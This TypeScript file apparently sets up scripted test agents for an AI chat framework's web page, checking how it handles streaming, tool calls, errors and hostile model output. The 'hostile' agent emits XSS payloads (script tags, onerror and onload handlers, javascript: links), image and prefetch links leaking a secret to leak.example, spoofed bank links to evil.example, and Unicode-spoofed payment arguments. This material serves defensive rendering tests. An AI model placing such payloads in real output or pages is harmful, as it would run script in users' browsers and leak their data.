// Agents whose models say what a test needs to be said, some of it hostile.
import { agentSession, durableHost, type SessionBindings } from '../../adapters/cloudflare/index.ts'
import { app } from '../../src/http/app.ts'
import { chatPage } from '../../src/http/page/page.ts'
import { type Agent, agent, type Chunk, KitError, model, type Model, type ModelCall, textOf, tool } from '../../src/index.ts'

const sleep = (ms: number): Promise<void> => new Promise((resolve) => setTimeout(resolve, ms))

/** Answers by the last message: the first rule whose word is in it. */
const by = (rules: Record<string, (call: ModelCall) => AsyncIterable<Chunk> | Iterable<Chunk>>): Model =>
  model({ id: 'scripted', provider: 'testing', capabilities: { tools: true } }, async function* (call) {
    const last = call.messages.at(-1)!
    const said = last.role === 'tool' ? 'tool' : textOf(last)
    const rule = Object.keys(rules).find((word) => said.includes(word)) ?? 'else'
    yield* rules[rule]!(call)
    yield { type: 'usage', usage: { input: 1200, output: 34, cacheRead: 1000 } }
    yield { type: 'finish', reason: 'stop' }
  })

const says = (text: string): Iterable<Chunk> => [{ type: 'text', delta: text }]

const hostileText = `# Hello <img src=x onerror="document.title='owned'">

<script>document.title = 'owned'</script>

[click me](javascript:document.title='owned') and [data](data:text/html,<script>alert(1)</script>) and [mail](mailto:a@b.c)

![pixel](https://leak.example/?secret=1) and ![](https://leak.example/2) and https://leak.example/3

[https://bank.example](https://evil.example/login) and [user](https://bank.example@evil.example/)

<iframe src="https://leak.example/4"></iframe><style>body{display:none}</style>

| <b>a</b> | [x](vbscript:1) |
|---|---|
| ![i](https://leak.example/5) | <svg onload=alert(1)> |

\`\`\`html
<link rel="prefetch" href="https://leak.example/6">
\`\`\``

const evilCall: Chunk = {
  type: 'part',
  part: {
    type: 'call',
    id: 'evil',
    name: 'pay',
    input: { to: 'alice\u202Ekcollam', note: 'zero\u200Bwidth\u0007\u3164 <b>bold</b>', amount: 5 },
  },
}

const hostile = agent({
  name: 'hostile',
  model: by({
    tool: () => says('Paid.'),
    pay: () => [{ type: 'text', delta: 'I want to pay.' }, evilCall],
    sources: () => [
      { type: 'source', source: { url: 'javascript:alert(1)', title: 'bad' } },
      { type: 'source', source: { url: 'https://good.example/page', title: 'good' } },
      { type: 'notice', code: 'x', message: 'a notice <b>plain</b>' },
      { type: 'route', from: 'big', to: 'small', why: 'the big one is full' },
      { type: 'text', delta: 'With sources.' },
    ],
    else: () => says(hostileText),
  }),
  tools: [tool({ name: 'pay', approval: true, run: () => 'paid' })],
})

/** 1,000 deltas, or as many as are asked for. */
const many = agent({
  name: 'many',
  model: by({
    deltas: async function* ({ messages }) {
      const count = Number(/(\d+) deltas/.exec(textOf(messages.at(-1)!))?.[1])
      for (let n = 0; n < count; n++) {
        yield { type: 'text', delta: n % 40 ? `word${n} ` : `\n\n**Part ${n / 40}** of *many*, with \`code\`: ` }
        if (n % 4 === 3) await sleep(4)
      }
    },
    code: async function* () {
      yield { type: 'text', delta: 'Look:\n\n```js\n' }
      for (let n = 0; n < 60; n++) {
        yield { type: 'text', delta: `const a${n} = 'x'.repeat(${n}) // ${'long '.repeat(40)}\n` }
        await sleep(5)
      }
      yield {
        type: 'text',
        delta: `\`\`\`\n\n${'w'.repeat(500)}\n\n|${' a long heading |'.repeat(12)}\n|${'---|'.repeat(12)}\n|${' cell |'.repeat(12)}`,
      }
    },
    else: () => says('A short answer.\n\n- one\n- two\n\n`three`'),
  }),
})

const patient = agent({
  name: 'patient',
  model: by({
    tool: ({ messages }) =>
      says(JSON.stringify(messages.at(-1)!.parts.map((part) => part.type === 'result' && (part.output ?? part.error)))),
    args: async function* () {
      for (const delta of ['{"city":', ' "Lis', 'bon"}']) {
        yield { type: 'tool-input', id: 'w', name: 'slow', delta }
        await sleep(500)
      }
      yield { type: 'part', part: { type: 'call', id: 'w', name: 'slow', input: { city: 'Lisbon' } } }
    },
    image: () => [{ type: 'part', part: { type: 'call', id: 'i', name: 'draw', input: {} } }],
    throw: () => [{ type: 'part', part: { type: 'call', id: 't', name: 'throws', input: {} } }],
    client: () => [{ type: 'part', part: { type: 'call', id: 'c', name: 'ask', input: { question: 'How old?' } } }],
    think: async function* () {
      for (let n = 0; n < 8; n++) {
        yield { type: 'reasoning', delta: `thought ${n} ` }
        await sleep(200)
      }
      yield { type: 'text', delta: 'Thought out.' }
    },
    fail: () => {
      throw new KitError('model/overloaded', 'the model is overloaded', { retryable: true })
    },
    else: () => says('Patience.'),
  }),
  tools: [
    tool({
      name: 'slow',
      run: async (_, { emit }) => {
        for (let done = 0; done < 4; done++) {
          emit({ done, of: 4 })
          await sleep(500)
        }
        return 'sunny'
      },
    }),
    tool({ name: 'ask' }),
    tool({
      name: 'throws',
      run: () => {
        throw new Error('a secret')
      },
    }),
    tool({
      name: 'draw',
      run: () => ({
        parts: [
          { type: 'text', text: 'a dot' },
          { type: 'media', mime: 'image/png', data: dot },
        ],
      }),
    }),
  ],
})

const dot = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=='

const agents: Record<string, Agent> = { hostile, many, patient }

export const AgentSession = agentSession<SessionBindings>({ agents })
export default app<SessionBindings>({ agents, auth: 'open', host: durableHost(), page: chatPage })
